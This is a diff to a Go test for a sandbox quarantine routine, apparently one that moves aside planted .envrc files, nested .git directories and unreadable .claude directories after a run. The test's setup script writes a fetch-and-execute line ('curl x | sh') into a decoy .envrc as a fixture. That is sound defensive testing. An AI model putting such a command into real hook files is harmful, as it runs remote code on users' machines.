@@ -455,6 +455,11 @@ mount --bind ` + outside + ` ` + filepath.Join(dir, "x") + ` && chmod 777 ` + fi
 	// outlives the run) to a directory holding an .envrc.
 	t.Run("protected-class", func(t *testing.T) {
 		proj := t.TempDir()
+		t.Cleanup(func() {
+			for _, d := range []string{"hid", "fake/.claude", "fake/.claude" + QuarantineSuffix} {
+				os.Chmod(filepath.Join(proj, d), 0o755)
+			}
+		})
 		deep := "a/b/c/d/e/f/g/h/lib"
 		mkfile(t, filepath.Join(proj, deep, ".git/config"), "[core]\n")
 		mkfile(t, filepath.Join(proj, "vendor/lib/.git/config"), "[core]\n")
@@ -470,6 +475,8 @@ mkdir -p x/y && ln -s ../../vendor/lib2/.git x/y/.git
 mkdir -p z && cp -r vendor/lib2/.git z/.git
 mkdir -p w && ln vendor/lib2/.git/config w/.gitconfig
 c=$(dirname "$GOCACHE"); mkdir -p "$c/evil" && echo 'curl x | sh' > "$c/evil/.envrc" && ln -s "$c/evil" linked
+mkdir -p fake/.claude && echo '{}' > fake/.claude/settings.json && chmod 0 fake/.claude
+mkdir -p hid && echo evil > hid/.envrc && chmod 0 hid
 true`)
 		cmd.Dir = proj
 		var out bytes.Buffer
@@ -487,13 +494,23 @@ true`)
 			t.Fatalf("%v\n%s", err, out.String())
 		}
 		var got []string
-		for _, b := range r.Quarantine(nil) {
+		// A directory made unreadable hides nothing: as root it is read
+		// (and its .envrc moved aside), as a user it is reported.
+		blocked, err := r.Quarantine(nil)
+		if os.Getuid() == 0 && err != nil || os.Getuid() != 0 && (err == nil || !strings.Contains(err.Error(), "hid: cannot be read")) {
+			t.Errorf("unreadable directory: %v", err)
+		}
+		for _, b := range blocked {
 			if b.MovedTo == "" {
 				t.Errorf("%s not moved aside: %s", b.Path, b.Error)
 			}
 			got = append(got, strings.TrimPrefix(b.Path, proj+"/"))
 		}
-		want := []string{deep + "/.envrc", "linked", "vendor/lib/.git", "vendor/lib2/.git", "x/y/.git", "z/.git"}
+		// A mode-0 directory with files in it is no placeholder.
+		want := []string{deep + "/.envrc", "fake/.claude", "linked", "vendor/lib/.git", "vendor/lib2/.git", "x/y/.git", "z/.git"}
+		if os.Getuid() == 0 {
+			want = slices.Insert(want, 2, "hid/.envrc")
+		}
 		if !slices.Equal(got, want) {
 			t.Errorf("moved aside %v, want %v\n%s", got, want, out.String())
 		}
